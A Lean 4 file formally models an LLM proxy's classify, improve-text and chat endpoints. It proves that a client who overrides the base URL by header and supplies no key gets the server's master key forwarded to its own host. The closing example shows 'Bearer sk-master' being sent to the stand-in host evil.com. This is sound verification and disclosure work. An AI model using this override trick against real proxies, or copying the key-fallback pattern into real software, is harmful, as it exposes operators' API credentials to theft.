import Uncworks.Go.Strings

/-!
# The LLM endpoints

`/api/v1/classify`, `/api/v1/improve-text` and `/api/v1/chat/stream` pass a request on to an LLM.
The first sends it to the configured base URL with the master key.  The other two let the client
override the base URL and the key by headers, each on its own.
-/

namespace Uncworks

structure ChatMessage where
  role : String
  content : String
  deriving DecidableEq

structure CompletionBody where
  model : String := "default"
  messages : List ChatMessage
  maxTokens : Option ℕ := none
  stream : Bool := false
  deriving DecidableEq

structure LLMCall where
  url : String
  authorization : Option String
  body : CompletionBody
  deriving DecidableEq

structure HttpError where
  status : ℕ
  text : String

/-- The headers `X-LLM-Base-URL` and `X-LLM-API-Key`; empty if they are absent. -/
structure LLMHeaders where
  baseURL : String := ""
  apiKey : String := ""

structure ClassifyRequest where
  prompt : String
  repos : List String := []

structure ImproveRequest where
  text : String
  kind : String := ""

structure ChatContext where
  type : String
  content : String
  label : String

structure ChatRequest where
  messages : List ChatMessage
  context : Option ChatContext := none
  model : String := ""

def completionsURL (base : String) : String :=
  Go.trimSuffix (Go.trimRight base '/') "/v1" ++ "/v1/chat/completions"

def bearer (key : String) : Option String := if key ≠ "" then some ("Bearer " ++ key) else none

def override (header default_ : String) : String := if header ≠ "" then header else default_

theorem bearer_inj {a b} (h : bearer a = bearer b) : a = b := by
  unfold bearer at h
  split_ifs at h with ha hb hb
  · exact (String.append_right_inj _).1 (Option.some.inj h)
  · rw [not_not.1 ha, not_not.1 hb]

/-! ## The handlers -/

def buildClassificationPrompt (prompt : String) (repos projects features : List String) : String :=
  "Given this agent run request, suggest classification.\nPrompt: \"" ++ prompt ++ "\"\nRepos: [" ++
  ", ".intercalate repos ++ "]\nExisting projects: [" ++ ", ".intercalate projects ++
  "]\nExisting features: [" ++ ", ".intercalate features ++
  "]\n\nReturn JSON only, no explanation:\n\x7b\"project\": \"suggested-project\", " ++
  "\"feature\": \"feature-name-kebab-case\", \"featureIsNew\": true/false, \"tags\": [\"tag1\", \"tag2\"]\x7d"

def improvePrompt (kind : String) : String :=
  if kind = "spec" then
    "You are a spec editor. Improve the given specification to be clearer, more structured, and more " ++
    "actionable for an AI coding agent. Keep the same intent but:\n" ++
    "- Add clear acceptance criteria\n" ++
    "- Break vague requirements into specific, testable items\n" ++
    "- Use markdown formatting with headers and bullet points\n" ++
    "- Add edge cases the author may have missed\n" ++
    "Return ONLY the improved spec text, no explanation."
  else
    "You are a prompt editor. Improve the given prompt to be clearer and more effective for an AI coding " ++
    "agent. Keep the same intent but:\n" ++
    "- Be more specific about what to do\n" ++
    "- Clarify success criteria\n" ++
    "- Add relevant constraints or context hints\n" ++
    "- Keep it concise\n" ++
    "Return ONLY the improved prompt text, no explanation."

def maxContextBytes : ℕ := 8 * 1024

def baseSystemPrompt : String :=
  "You are a helpful assistant for the uncworks AI agent platform.\n\n" ++
  "You can guide the user through the UI using special action tokens that the app interprets:\n" ++
  "- To navigate: include [NAV:/path] in your response (e.g. [NAV:/run/ar-abc123])\n" ++
  "- To highlight a UI element: include [HIGHLIGHT:css-selector] (e.g. [HIGHLIGHT:.run-status-badge])\n\n" ++
  "Only emit these tokens when it genuinely helps the user. They are stripped from the displayed text.\n" ++
  "Be concise and specific."

/-- `buildChatSystemMessage`, for a context whose content is cut to its limit. -/
def buildChatSystemMessage : Option ChatContext → String
  | none => baseSystemPrompt
  | some ctx =>
    let content := String.ofList (Go.takeBytes maxContextBytes ctx.content.toList)
    if content = "" then baseSystemPrompt
    else baseSystemPrompt ++ s!"\n\nCurrent context ({ctx.type} — {ctx.label}):\n\n{content}"

def callLiteLLM (liteLLMBaseURL masterKey prompt : String) : Except String LLMCall :=
  if liteLLMBaseURL = "" then .error "not found: LITELLM_BASE_URL not configured"
  else .ok ⟨completionsURL liteLLMBaseURL, bearer masterKey,
    { messages := [⟨"user", prompt⟩], maxTokens := some 200 }⟩

def overriddenCall (liteLLMBaseURL masterKey : String) (headers : LLMHeaders)
    (body : CompletionBody) :
    LLMCall :=
  ⟨completionsURL (override headers.baseURL liteLLMBaseURL),
    bearer (override headers.apiKey masterKey),
    body⟩

/-- A request of a client, as it is decoded; for `classify` with the labels that were listed. -/
inductive ProxyRequest where
  | classify (req : Option ClassifyRequest) (projects features : List String)
  | improveText (headers : LLMHeaders) (req : Option ImproveRequest)
  | chatStream (headers : LLMHeaders) (req : Option ChatRequest)

section Handlers

variable (liteLLMBaseURL masterKey : String)

def handleClassify (req : Option ClassifyRequest) (projects features : List String) :
    Except HttpError LLMCall :=
  match req with
  | none => .error ⟨400, "invalid JSON body"⟩
  | some req =>
    if req.prompt = "" then .error ⟨400, "prompt is required"⟩
    else match callLiteLLM liteLLMBaseURL masterKey
        (buildClassificationPrompt req.prompt req.repos projects features) with
      | .error text => .error ⟨502, s!"LLM classification failed: {text}"⟩
      | .ok call => .ok call

theorem callLiteLLM_url {prompt call} (h : callLiteLLM liteLLMBaseURL masterKey prompt = .ok call) :
    call.url = completionsURL liteLLMBaseURL := by
  unfold callLiteLLM at h
  split_ifs at h
  rw [← Except.ok.inj h]

theorem handleClassify_url {req projects features call} (h : handleClassify liteLLMBaseURL masterKey req projects features = .ok call) :
    call.url = completionsURL liteLLMBaseURL := by
  unfold handleClassify at h
  cases req with
  | none => cases h
  | some req =>
    dsimp only at h
    split_ifs at h
    split at h
    · cases h
    · rename_i call' hcall
      rw [← Except.ok.inj h]
      exact callLiteLLM_url _ _ hcall

def handleImproveText (headers : LLMHeaders) (req : Option ImproveRequest) :
    Except HttpError LLMCall :=
  match req with
  | none => .error ⟨400, "invalid JSON body"⟩
  | some req =>
    if req.text = "" then .error ⟨400, "text is required"⟩
    else if liteLLMBaseURL = "" then .error ⟨502, "LITELLM_BASE_URL not configured"⟩
    else .ok (overriddenCall liteLLMBaseURL masterKey headers
      { messages := [⟨"system", improvePrompt (override req.kind "prompt")⟩, ⟨"user", req.text⟩]
        maxTokens := some 2000 })

def handleChatStream (headers : LLMHeaders) (req : Option ChatRequest) : Except HttpError LLMCall :=
  match req with
  | none => .error ⟨400, "invalid JSON body"⟩
  | some req =>
    if req.messages = [] then .error ⟨400, "messages must be non-empty"⟩
    else if override headers.baseURL liteLLMBaseURL = "" then
      .error ⟨502, "LLM base URL not configured"⟩
    else .ok (overriddenCall liteLLMBaseURL masterKey headers
      { model := override req.model "default"
        messages := ⟨"system", buildChatSystemMessage req.context⟩ :: req.messages
        stream := true })

def ProxyRequest.call : ProxyRequest → Except HttpError LLMCall
  | .classify req projects features => handleClassify liteLLMBaseURL masterKey req projects features
  | .improveText headers req => handleImproveText liteLLMBaseURL masterKey headers req
  | .chatStream headers req => handleChatStream liteLLMBaseURL masterKey headers req

end Handlers

/-! ## What is sent -/

/-- The host of a URL, if a request can be sent there, and the requests that follow a request
because of redirects. -/
structure Network where
  host : String → Option String
  follow : LLMCall → List LLMCall

namespace Network

variable (net : Network) (liteLLMBaseURL masterKey : String)

def configuredHost : Option String := net.host (completionsURL liteLLMBaseURL)

def Stays : Prop :=
  ∀ call, net.host call.url = net.configuredHost liteLLMBaseURL →
    ∀ next ∈ net.follow call, net.host next.url = net.configuredHost liteLLMBaseURL

def sent (r : ProxyRequest) : List LLMCall :=
  match r.call liteLLMBaseURL masterKey with
  | .error _ => []
  | .ok call => if (net.host call.url).isSome then call :: net.follow call else []

def sentTo (host : String) (r : ProxyRequest) : List LLMCall :=
  (net.sent liteLLMBaseURL masterKey r).filter fun call => net.host call.url = some host

/-- What is sent to hosts other than the configured one does not depend on the master key. -/
def Noninterfering (r : ProxyRequest) : Prop :=
  ∀ key₁ key₂ host, some host ≠ net.configuredHost liteLLMBaseURL →
    net.sentTo liteLLMBaseURL key₁ host r = net.sentTo liteLLMBaseURL key₂ host r

def Exposes (headers : LLMHeaders) : Prop :=
  headers.apiKey = "" ∧ ∃ host, some host ≠ net.configuredHost liteLLMBaseURL ∧
    net.host (completionsURL (override headers.baseURL liteLLMBaseURL)) = some host

def Leaks : ProxyRequest → Prop
  | .classify _ _ _ => False
  | .improveText headers req =>
    net.Exposes liteLLMBaseURL headers ∧ liteLLMBaseURL ≠ "" ∧ ∃ q, req = some q ∧ q.text ≠ ""
  | .chatStream headers req =>
    net.Exposes liteLLMBaseURL headers ∧ override headers.baseURL liteLLMBaseURL ≠ "" ∧
      ∃ q, req = some q ∧ q.messages ≠ []

variable {net liteLLMBaseURL masterKey} {r : ProxyRequest} {host : String}

theorem sentTo_of_error {err} (h : r.call liteLLMBaseURL masterKey = .error err) :
    net.sentTo liteLLMBaseURL masterKey host r = [] := by
  rw [sentTo, sent, h]
  rfl

theorem sentTo_of_ok {call} (h : r.call liteLLMBaseURL masterKey = .ok call) :
    net.sentTo liteLLMBaseURL masterKey host r =
      if (net.host call.url).isSome then
        (call :: net.follow call).filter fun call => net.host call.url = some host
      else [] := by
  rw [sentTo, sent, h]
  dsimp only
  split_ifs
  · rfl
  · rfl

theorem sentTo_configured (hnet : net.Stays liteLLMBaseURL) {call}
    (h : r.call liteLLMBaseURL masterKey = .ok call)
    (hcall : net.host call.url = net.configuredHost liteLLMBaseURL)
    (hhost : some host ≠ net.configuredHost liteLLMBaseURL) :
    net.sentTo liteLLMBaseURL masterKey host r = [] := by
  rw [sentTo_of_ok h]
  split_ifs
  · refine List.filter_eq_nil_iff.2 (List.forall_mem_cons.2 ⟨?_, fun next hnext => ?_⟩)
    · rw [decide_eq_true_eq, hcall]
      exact hhost.symm
    · rw [decide_eq_true_eq, hnet call hcall next hnext]
      exact hhost.symm
  · rfl

theorem noninterfering_of_error
    (h : ∀ key, ∃ err, r.call liteLLMBaseURL key = .error err) :
    net.Noninterfering liteLLMBaseURL r := by
  intro key₁ key₂ host _
  obtain ⟨err₁, h₁⟩ := h key₁
  obtain ⟨err₂, h₂⟩ := h key₂
  rw [sentTo_of_error h₁, sentTo_of_error h₂]

theorem noninterfering_overridden (hnet : net.Stays liteLLMBaseURL) {headers body}
    (h : ∀ key, r.call liteLLMBaseURL key = .ok (overriddenCall liteLLMBaseURL key headers body)) :
    net.Noninterfering liteLLMBaseURL r ↔ ¬ net.Exposes liteLLMBaseURL headers := by
  refine ⟨?_, fun hnot key₁ key₂ host hhost => ?_⟩
  · -- with two keys, the first requests to the host differ
    rintro hni ⟨hkey, host, hhost, htarget⟩
    have hsent : ∀ key, ∃ rest, net.sentTo liteLLMBaseURL key host r =
        overriddenCall liteLLMBaseURL key headers body :: rest := by
      intro key
      have hcall : net.host (overriddenCall liteLLMBaseURL key headers body).url = some host := htarget
      rw [sentTo_of_ok (h key), hcall, if_pos Option.isSome_some]
      refine ⟨_, List.filter_cons_of_pos ?_⟩
      exact decide_eq_true hcall
    obtain ⟨rest₁, h₁⟩ := hsent ""
    obtain ⟨rest₂, h₂⟩ := hsent "key"
    have hsame := hni "" "key" host hhost
    rw [h₁, h₂, List.cons.injEq] at hsame
    have hbearer := congrArg LLMCall.authorization hsame.1
    simp only [overriddenCall, hkey] at hbearer
    exact absurd (bearer_inj hbearer) (by decide)
  · by_cases hkey : headers.apiKey = ""
    · -- the request goes to the configured host, or cannot be sent
      have hcalls : ∀ key, net.sentTo liteLLMBaseURL key host r = [] := by
        intro key
        have hurl : (overriddenCall liteLLMBaseURL key headers body).url =
            completionsURL (override headers.baseURL liteLLMBaseURL) := rfl
        cases htarget : net.host (completionsURL (override headers.baseURL liteLLMBaseURL)) with
        | none => rw [sentTo_of_ok (h key), hurl, htarget, if_neg (by decide)]
        | some target =>
          apply sentTo_configured hnet (h key) _ hhost
          rw [hurl, htarget]
          by_contra hother
          exact hnot ⟨hkey, target, hother, htarget⟩
      rw [hcalls, hcalls]
    · -- the key of the client is used
      have hcall : overriddenCall liteLLMBaseURL key₁ headers body =
          overriddenCall liteLLMBaseURL key₂ headers body := by
        simp [overriddenCall, override, hkey]
      rw [sentTo_of_ok (h key₁), sentTo_of_ok (h key₂), hcall]

theorem noninterfering_classify (hnet : net.Stays liteLLMBaseURL) (req : Option ClassifyRequest)
    (projects features : List String) :
    net.Noninterfering liteLLMBaseURL (.classify req projects features) := by
  have hsent : ∀ key host, some host ≠ net.configuredHost liteLLMBaseURL →
      net.sentTo liteLLMBaseURL key host (.classify req projects features) = [] := by
    intro key host hhost
    cases hcall : ProxyRequest.call liteLLMBaseURL key (.classify req projects features) with
    | error err => exact sentTo_of_error hcall
    | ok call =>
      refine sentTo_configured hnet hcall ?_ hhost
      rw [handleClassify_url _ _ hcall]
      rfl
  intro key₁ key₂ host hhost
  rw [hsent key₁ host hhost, hsent key₂ host hhost]

theorem noninterfering_guarded (hnet : net.Stays liteLLMBaseURL) {α : Type} {req blank} [DecidablePred blank] {base headers}
    {body : α → CompletionBody} {err₀ err₁ err₂}
    (hnone : req = none → ∀ key, r.call liteLLMBaseURL key = .error err₀)
    (hsome : ∀ q, req = some q → ∀ key, r.call liteLLMBaseURL key =
      if blank q then .error err₁ else if base = "" then .error err₂
      else .ok (overriddenCall liteLLMBaseURL key headers (body q))) :
    net.Noninterfering liteLLMBaseURL r ↔
      ¬ (net.Exposes liteLLMBaseURL headers ∧ base ≠ "" ∧ ∃ q, req = some q ∧ ¬ blank q) := by
  by_cases hvalid : base ≠ "" ∧ ∃ q, req = some q ∧ ¬ blank q
  · obtain ⟨hbase, q, rfl, hq⟩ := hvalid
    rw [noninterfering_overridden hnet fun key => by
      rw [hsome q rfl, if_neg hq, if_neg hbase]]
    exact not_congr ⟨fun hexposes => ⟨hexposes, hbase, q, rfl, hq⟩, fun hleak => hleak.1⟩
  · refine ⟨fun _ hleak => hvalid hleak.2, fun _ => noninterfering_of_error fun key => ?_⟩
    cases req with
    | none => exact ⟨_, hnone rfl key⟩
    | some q =>
      rw [hsome q rfl]
      split_ifs with hq hbase
      · exact ⟨_, rfl⟩
      · exact ⟨_, rfl⟩
      · exact absurd ⟨hbase, q, rfl, hq⟩ hvalid

/-- What is sent to hosts other than the configured one does not depend on the master key, exactly
if the request of the client is not a valid one that names such a host and no key. -/
theorem master_key_iff (hnet : net.Stays liteLLMBaseURL) (r : ProxyRequest) :
    net.Noninterfering liteLLMBaseURL r ↔ ¬ net.Leaks liteLLMBaseURL r := by
  cases r with
  | classify req projects features =>
    exact iff_of_true (noninterfering_classify hnet req projects features) fun hleak => hleak
  | improveText headers req | chatStream headers req =>
    exact noninterfering_guarded hnet (fun hreq _ => by rw [hreq]; rfl) fun _ hreq _ => by
      rw [hreq]; rfl

def sampleNetwork : Network where
  host url := some (String.ofList (((url.toList.dropWhile (· ≠ '/')).drop 2).takeWhile (· ≠ '/')))
  follow _ := []

def sampleChat (headers : LLMHeaders) : ProxyRequest :=
  .chatStream headers (some { messages := [⟨"user", "hello"⟩] })

theorem master_key_iff_ownKey : sampleNetwork.Stays "http://litellm:4000" ∧
    sampleNetwork.Noninterfering "http://litellm:4000"
      (sampleChat { baseURL := "https://openrouter.ai/api/v1", apiKey := "sk-or-1" }) := by
  have hnet : sampleNetwork.Stays "http://litellm:4000" := fun _ _ _ hnext => nomatch hnext
  refine ⟨hnet, (master_key_iff hnet _).2 ?_⟩
  rintro ⟨⟨hkey, -⟩, -⟩
  exact absurd hkey (by decide)

/-- A client that names its own host and no key is sent the master key. -/
theorem master_key_leaks :
    sampleNetwork.configuredHost "http://litellm:4000" = some "litellm:4000" ∧
      (sampleNetwork.sentTo "http://litellm:4000" "sk-master" "evil.com"
        (sampleChat { baseURL := "https://evil.com" })).map (·.authorization) =
          [some "Bearer sk-master"] ∧
      (sampleNetwork.sentTo "http://litellm:4000" "sk-other" "evil.com"
        (sampleChat { baseURL := "https://evil.com" })).map (·.authorization) =
          [some "Bearer sk-other"] := by
  decide

end Network

end Uncworks
